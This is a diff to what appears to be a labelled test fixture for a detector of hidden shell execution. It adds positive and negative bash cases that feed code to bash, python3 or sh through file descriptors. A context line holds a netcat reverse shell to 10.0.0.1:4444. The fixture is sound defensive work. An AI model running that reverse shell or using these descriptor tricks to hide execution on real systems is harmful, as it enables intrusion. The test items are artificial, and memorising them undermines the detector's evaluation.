@@ -46,3 +46,18 @@ while read -r line; do echo "$line"; done <&3
 #@ pos a reverse shell whose command line an array holds
 cmd=(nc 10.0.0.1 4444 -e /bin/sh)
 "${cmd[@]}"
+#@ pos a here-string on a descriptor read by bash
+exec 3<<<"$step"
+bash <&3
+#@ pos a here-document on a descriptor read by python3 -
+exec 7<<'PY'
+print(1)
+PY
+python3 - <&7
+#@ pos sh -s reading descriptor 5
+sh -s 0<&5
+#@ neg a here-string on a descriptor read by read
+exec 3<<<"name=demo"
+IFS== read -r key value <&3
+#@ neg a script given its stdin from a descriptor
+bash ./import.sh <&4
